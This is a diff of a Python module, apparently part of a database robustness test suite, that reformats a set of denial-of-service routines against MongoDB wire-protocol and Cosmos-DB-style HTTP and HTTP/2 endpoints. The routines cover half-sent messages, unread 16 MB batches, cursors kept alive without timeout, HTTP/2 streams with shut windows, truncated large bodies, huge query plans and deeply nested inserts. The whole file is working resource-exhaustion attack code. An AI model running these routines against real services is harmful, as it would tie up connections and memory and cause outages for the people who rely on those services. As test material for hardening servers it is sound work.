@@ -1,14 +1,15 @@
 """The bombs that are connections: messages that never end, answers that nobody reads, cursors that
 nobody asks again. Each is held for a while, and everybody else has to be served meanwhile."""
 
+import contextlib
 import socket
 import struct
 import zlib
 
 import bson
-
 from badinput.wire import OP_MSG, compressed, frame
 from badinput_nosql.wire import authorization, http_date, request
+
 from bombs import http2
 from bombs.data import DATABASE
 from bombs.grammar import HELD, MANY
@@ -39,10 +40,8 @@ class Held:
         """To all; what the server does not take, or takes no more, is not sent."""
         for one in self.sockets:
             one.settimeout(within)
-            try:
+            with contextlib.suppress(OSError):
                 one.sendall(data)
-            except OSError:
-                pass
 
 
 def half_messages(attack):
@@ -77,7 +76,9 @@ def half_compressed(attack):
 def unread_batches(attack):
     """Batches of 16 MB that nobody reads, as many as a connection takes."""
     with Held(attack.mongo_address, 6) as held:
-        held.send(op_msg({"find": "rows", "batchSize": 1_000_000, "noCursorTimeout": True}) * 20, 1.0)
+        held.send(
+            op_msg({"find": "rows", "batchSize": 1_000_000, "noCursorTimeout": True}) * 20, 1.0
+        )
         attack.hold()
 
 
@@ -100,7 +101,9 @@ def forgotten_cursors(attack):
 def forgotten_connections(attack):
     """The same, a connection each, which is closed: they go with it or with pressure."""
     for _ in range(8):
-        attack.mongo({"aggregate": "wide", "pipeline": HELD, "cursor": {"batchSize": 1}}, 60, new=True)
+        attack.mongo(
+            {"aggregate": "wide", "pipeline": HELD, "cursor": {"batchSize": 1}}, 60, new=True
+        )
     attack.hold()
 
 
@@ -122,11 +125,21 @@ def unread_pages(attack):
 
 def unread_streams(attack):
     """The same on a hundred streams of HTTP/2, whose windows stay shut."""
+
     def ask(stream):
         date = http_date()
-        return http2.request(stream, "GET", DOCS, {
-            "x-ms-date": date, "x-ms-version": "2020-07-15", "accept": "application/json",
-            "authorization": authorization("GET", DOCS, date), "x-ms-max-item-count": "1000"})
+        return http2.request(
+            stream,
+            "GET",
+            DOCS,
+            {
+                "x-ms-date": date,
+                "x-ms-version": "2020-07-15",
+                "accept": "application/json",
+                "authorization": authorization("GET", DOCS, date),
+                "x-ms-max-item-count": "1000",
+            },
+        )
 
     with Held(attack.items_address, 1) as held:
         held.send(http2.settings(window=0) + b"".join(ask(2 * i + 1) for i in range(100)), 2.0)
@@ -136,8 +149,9 @@ def unread_streams(attack):
 def half_bodies(attack):
     """Bodies of 2 MB that lack their last bytes."""
     body = b'{"id":"h","pk":"a","x":"' + b"x" * (2_000_000 - 100)
-    head = request("POST", DOCS, None, {
-        "content-length": "2000000", "x-ms-documentdb-partitionkey": '["a"]'})
+    head = request(
+        "POST", DOCS, None, {"content-length": "2000000", "x-ms-documentdb-partitionkey": '["a"]'}
+    )
     with Held(attack.items_address, 30) as held:
         held.send(head + body)
         attack.hold()
@@ -145,9 +159,16 @@ def half_bodies(attack):
 
 def half_queries(attack):
     """The same of queries."""
-    head = request("POST", DOCS, None, {
-        "content-length": "500000", "content-type": "application/query+json",
-        "x-ms-documentdb-isquery": "True"})
+    head = request(
+        "POST",
+        DOCS,
+        None,
+        {
+            "content-length": "500000",
+            "content-type": "application/query+json",
+            "x-ms-documentdb-isquery": "True",
+        },
+    )
     with Held(attack.items_address, 60) as held:
         held.send(head + b'{"query":"SELECT ' + b"c.n," * 120_000)
         attack.hold()
@@ -162,12 +183,22 @@ def half_heads(attack):
 
 def half_streams(attack):
     """Bodies of a hundred streams of HTTP/2, none of which ends."""
+
     def ask(stream):
         date = http_date()
-        whole = http2.request(stream, "POST", DOCS, {
-            "x-ms-date": date, "x-ms-version": "2020-07-15", "content-type": "application/json",
-            "authorization": authorization("POST", DOCS, date),
-            "x-ms-documentdb-partitionkey": '["a"]'}, b"x")
+        whole = http2.request(
+            stream,
+            "POST",
+            DOCS,
+            {
+                "x-ms-date": date,
+                "x-ms-version": "2020-07-15",
+                "content-type": "application/json",
+                "authorization": authorization("POST", DOCS, date),
+                "x-ms-documentdb-partitionkey": '["a"]',
+            },
+            b"x",
+        )
         head = whole[:-10]
         return head + http2.frame(http2.DATA, 0, stream, b'{"id":"' + b"x" * 16_000)
 
@@ -178,51 +209,102 @@ def half_streams(attack):
 
 def batches(attack):
     """Transactional batches whose answers are large: each reads the wide item a hundred times."""
-    headers = {"x-ms-cosmos-is-batch-request": "True", "x-ms-cosmos-batch-atomic": "True",
-               "x-ms-documentdb-partitionkey": '["a"]'}
+    headers = {
+        "x-ms-cosmos-is-batch-request": "True",
+        "x-ms-cosmos-batch-atomic": "True",
+        "x-ms-documentdb-partitionkey": '["a"]',
+    }
     attack.post(DOCS, [{"operationType": "Read", "id": "wide"}] * 100, headers)
 
 
 def bulks(attack):
-    headers = {"x-ms-cosmos-is-batch-request": "True", "x-ms-cosmos-batch-atomic": "False",
-               "x-ms-cosmos-batch-continue-on-error": "True", "x-ms-documentdb-partitionkeyrangeid": "0"}
-    attack.post(DOCS, [{"operationType": "Read", "id": "wide", "partitionKey": '["a"]'}] * 100, headers)
+    headers = {
+        "x-ms-cosmos-is-batch-request": "True",
+        "x-ms-cosmos-batch-atomic": "False",
+        "x-ms-cosmos-batch-continue-on-error": "True",
+        "x-ms-documentdb-partitionkeyrangeid": "0",
+    }
+    attack.post(
+        DOCS, [{"operationType": "Read", "id": "wide", "partitionKey": '["a"]'}] * 100, headers
+    )
 
 
 def patches(attack):
     """A patch that puts the item into itself again and again."""
     operations = [{"op": "add", "path": f"/p{i}", "value": "x" * 30_000} for i in range(60)]
-    attack.ask("PATCH", f"{DOCS}/wide", {"operations": operations}, {
-        "x-ms-documentdb-partitionkey": '["a"]', "content-type": "application/json-patch+json"})
+    attack.ask(
+        "PATCH",
+        f"{DOCS}/wide",
+        {"operations": operations},
+        {"x-ms-documentdb-partitionkey": '["a"]', "content-type": "application/json-patch+json"},
+    )
 
 
 def plans(attack):
     """Plans of queries that are large."""
     text = "SELECT VALUE 1 FROM c WHERE " + " OR ".join(f"c.n = {i}" for i in range(20_000))
-    attack.sql(text, {"x-ms-cosmos-is-query-plan-request": "True", "x-ms-cosmos-query-version": "1.4",
-                      "x-ms-cosmos-supported-query-features": "Aggregate"})
+    attack.sql(
+        text,
+        {
+            "x-ms-cosmos-is-query-plan-request": "True",
+            "x-ms-cosmos-query-version": "1.4",
+            "x-ms-cosmos-supported-query-features": "Aggregate",
+        },
+    )
 
 
 def many_sections(attack):
     """Inserts of documents that are all nested arrays, by a connection each."""
     deep = {"a": [[[]] * 1_000] * 1_000}
     for _ in range(3):
-        attack.mongo({"insert": "none", "ordered": False, "documents": [
-            {**deep, "_id": "honest"} for _ in range(2)]}, 60, new=True)
+        attack.mongo(
+            {
+                "insert": "none",
+                "ordered": False,
+                "documents": [{**deep, "_id": "honest"} for _ in range(2)],
+            },
+            60,
+            new=True,
+        )
 
 
 def waiting_cursors(attack):
     """A cursor whose batches each make much of little."""
-    reply = attack.mongo({"aggregate": "wide", "cursor": {"batchSize": 1}, "pipeline": [
-        {"$unwind": "$a"}, {"$project": {"p": ["$s"] * 8}}]}, 60)
+    reply = attack.mongo(
+        {
+            "aggregate": "wide",
+            "cursor": {"batchSize": 1},
+            "pipeline": [{"$unwind": "$a"}, {"$project": {"p": ["$s"] * 8}}],
+        },
+        60,
+    )
     cursor = reply.get("cursor", {}).get("id", 0)
     for _ in range(5 if cursor else 0):
         attack.mongo({"getMore": bson.Int64(cursor), "collection": "wide", "batchSize": MANY}, 60)
 
 
-WIRES = {work.__name__.replace("_", " "): work for work in (
-    half_messages, half_messages_of_the_known, half_compressed, unread_batches, unread_writes,
-    forgotten_cursors, forgotten_connections, cursors_of_programs, unread_pages, unread_streams,
-    half_bodies, half_queries, half_heads, half_streams, batches, bulks, patches, plans, many_sections,
-    waiting_cursors,
-)}
+WIRES = {
+    work.__name__.replace("_", " "): work
+    for work in (
+        half_messages,
+        half_messages_of_the_known,
+        half_compressed,
+        unread_batches,
+        unread_writes,
+        forgotten_cursors,
+        forgotten_connections,
+        cursors_of_programs,
+        unread_pages,
+        unread_streams,
+        half_bodies,
+        half_queries,
+        half_heads,
+        half_streams,
+        batches,
+        bulks,
+        patches,
+        plans,
+        many_sections,
+        waiting_cursors,
+    )
+}
